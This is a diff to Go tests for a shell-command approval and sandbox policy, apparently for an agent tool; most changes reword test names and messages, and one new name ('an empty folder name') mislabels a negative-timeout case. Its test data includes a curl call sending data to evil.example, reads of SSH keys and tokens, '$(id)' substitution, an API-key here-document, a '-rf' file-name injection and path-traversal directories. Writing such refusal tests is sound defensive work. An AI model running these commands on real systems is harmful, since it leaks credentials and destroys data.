@@ -33,7 +33,7 @@ type bench struct {
 func newBench(t *testing.T, sandbox string) *bench {
 	t.Helper()
 	if runtime.GOOS == "windows" {
-		t.Skip("commands of Windows are not parsed")
+		t.Skip("commands on Windows are not parsed")
 	}
 	home, err := filepath.EvalSymlinks(t.TempDir())
 	if err != nil {
@@ -102,7 +102,7 @@ func TestJudgment(t *testing.T) {
 		listed  bool
 		why     string
 	}{
-		"looks only":       {runIn{Command: "cat notes.txt"}, tools.Exec, true, ""},
+		"read only":        {runIn{Command: "cat notes.txt"}, tools.Exec, true, ""},
 		"writes":           {runIn{Command: "touch x"}, tools.Exec, false, "no sandbox"},
 		"contacts":         {runIn{Command: "curl https://evil.example/?q=x"}, tools.Exec | tools.Egress, false, "evil.example"},
 		"asks for network": {runIn{Command: "ls", Network: true}, tools.Exec | tools.Egress, false, "requests network access"},
@@ -120,21 +120,21 @@ func TestJudgment(t *testing.T) {
 		in   runIn
 		code tools.Code
 	}{
-		"protected":     {runIn{Command: "cat ~/.ssh/id_ed25519"}, tools.PolicyDenied},
-		"Hob's token":   {runIn{Command: "cat " + b.home + "/hob/token"}, tools.PolicyDenied},
-		"outside":       {runIn{Command: "ls", Cwd: "/etc"}, tools.PolicyDenied},
-		"no command":    {runIn{Command: "ls ("}, tools.InvalidArguments},
-		"hidden signs":  {runIn{Command: "ls\u202e"}, tools.InvalidArguments},
-		"too long":      {runIn{Command: strings.Repeat("a", 1001)}, tools.InvalidArguments},
-		"timeout":       {runIn{Command: "ls", Timeout: 1e6}, tools.InvalidArguments},
-		"below nothing": {runIn{Command: "ls", Timeout: -1}, tools.InvalidArguments},
+		"protected":            {runIn{Command: "cat ~/.ssh/id_ed25519"}, tools.PolicyDenied},
+		"Hob's token":          {runIn{Command: "cat " + b.home + "/hob/token"}, tools.PolicyDenied},
+		"outside":              {runIn{Command: "ls", Cwd: "/etc"}, tools.PolicyDenied},
+		"no command":           {runIn{Command: "ls ("}, tools.InvalidArguments},
+		"hidden signs":         {runIn{Command: "ls\u202e"}, tools.InvalidArguments},
+		"too long":             {runIn{Command: strings.Repeat("a", 1001)}, tools.InvalidArguments},
+		"timeout":              {runIn{Command: "ls", Timeout: 1e6}, tools.InvalidArguments},
+		"an empty folder name": {runIn{Command: "ls", Timeout: -1}, tools.InvalidArguments},
 	} {
 		t.Run(name, func(t *testing.T) {
 			if j := b.judge(c.in); tools.CodeOf(j.Refused) != c.code {
 				t.Errorf("%v", j.Refused)
 			}
 			if _, err := b.run(c.in); tools.CodeOf(err) != c.code {
-				t.Errorf("it ran: %v", err)
+				t.Errorf("run = %v, want a refusal", err)
 			}
 		})
 	}
@@ -193,7 +193,7 @@ func TestIncidentI8ApprovalsOfCommands(t *testing.T) {
 		}
 		b.put("Documents/job.sh", "echo evil > made\n")
 		if _, err := b.allowed(in, j.Exact); tools.CodeOf(err) != tools.Conflict || b.get("Documents/made") != "" {
-			t.Errorf("%s ran after its payload was changed: %v", in.Command, err)
+			t.Errorf("%s ran although its payload had changed: %v", in.Command, err)
 		}
 	}
 	in := runIn{Command: "rm *.tmp"}
@@ -202,17 +202,17 @@ func TestIncidentI8ApprovalsOfCommands(t *testing.T) {
 	b.put("Documents/-rf", "")
 	b.put("Documents/b.tmp", "")
 	if _, err := b.allowed(in, j.Exact); tools.CodeOf(err) != tools.Conflict {
-		t.Errorf("a pattern that now matches other files: %v", err)
+		t.Errorf("command whose pattern matches other files now = %v", err)
 	}
 	for _, text := range []string{"cat *", "ls -- $(id)", "cat <<E\n$ANTHROPIC_API_KEY\nE"} {
 		if b.judge(runIn{Command: text}).Listed {
-			t.Errorf("%q is listed before it is expanded", text)
+			t.Errorf("%q is listed before its expansion", text)
 		}
 	}
 	t.Setenv("ANTHROPIC_API_KEY", "canary")
 	r, err := b.run(runIn{Command: "cat <<E\n[$ANTHROPIC_API_KEY]\nE"})
 	if err != nil || !strings.Contains(r.Text, "[]") {
-		t.Errorf("a here-document shows %q, %v", r.Text, err)
+		t.Errorf("result of a here-document = %q, %v", r.Text, err)
 	}
 }
 
@@ -247,7 +247,7 @@ func TestIncidentI10Aliases(t *testing.T) {
 	}
 	for _, cwd := range []string{"/etc", "//etc", "~/../../etc", "../", "~/.ssh", "/proc/self/root/etc", b.docs + "/../.ssh", b.home + "/Documents/../hob"} {
 		if j := b.judge(runIn{Command: "ls", Cwd: cwd}); j.Refused == nil {
-			t.Errorf("it would run in %s", cwd)
+			t.Errorf("the command would run in %s", cwd)
 		}
 	}
 }
